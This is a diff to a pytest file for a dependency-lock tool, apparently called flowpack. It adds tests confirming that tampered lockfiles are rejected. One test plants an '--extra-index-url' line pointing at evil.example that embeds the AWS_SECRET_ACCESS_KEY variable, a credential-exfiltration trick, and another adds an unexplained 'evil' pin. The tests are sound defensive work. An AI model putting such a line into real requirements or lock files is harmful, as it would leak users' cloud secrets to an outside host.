@@ -8,12 +8,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from flowpack.dependencies import resolver_choice
 from flowpack.dependencies.lock_format import LockInputs, Pin, parse_lock, render_lock
-from flowpack.dependencies.lock_review import UnexplainedLockError, unexplained
+from flowpack.dependencies.lock_review import UnexplainedLockError, check_installable, unexplained
 from flowpack.dependencies.lockfile import LOCK_NAME, Lockfile, lock_dependencies
 from flowpack.dependencies.requirements import Requirements
 from flowpack.dependencies.serving_needs import ServingNeeds
@@ -241,12 +241,14 @@ def graphs(draw: st.DrawFn) -> tuple[LockInputs, list[Pin]]:
     return inputs, pins
 
 
+@settings(deadline=None)
 @given(graphs())
 def test_what_flowpack_writes_is_explained(graph: tuple[LockInputs, list[Pin]]) -> None:
     assert list(unexplained(render_lock(*graph))) == []
 
 
 @pytest.mark.attack("M6")
+@settings(deadline=None)
 @given(graphs(), st.data())
 def test_one_line_more_or_less_is_found(graph: tuple[LockInputs, list[Pin]], data: st.DataObject) -> None:
     lines = render_lock(*graph).split("\n")[:-1]
@@ -266,3 +268,19 @@ def test_one_line_more_or_less_is_found(graph: tuple[LockInputs, list[Pin]], dat
     except LockError:
         return
     assert list(unexplained(text))
+
+
+@pytest.mark.attack("H4")
+@pytest.mark.parametrize("header", ["", "# by hand\n"])
+def test_a_lock_with_a_variable_is_not_installed_on_this_machine(header: str, tmp_path: Path) -> None:
+    path = tmp_path / LOCK_NAME
+    path.write_text(f"{header}--extra-index-url http://evil.example/${{AWS_SECRET_ACCESS_KEY}}/simple\n{EVIL}")
+    with pytest.raises(UnexplainedLockError, match="the lock has a variable") as raised:
+        check_installable(path)
+    assert str(raised.value.location).endswith(f"{LOCK_NAME}:{1 + bool(header)}")
+
+
+@pytest.mark.attack("M6")
+def test_a_lock_that_its_header_does_not_explain_is_not_installed_on_this_machine(forge: Forge) -> None:
+    with pytest.raises(UnexplainedLockError, match="no requirement leads to 'evil'"):
+        check_installable(forge(added(f"{EVIL}    # via evil\n")))
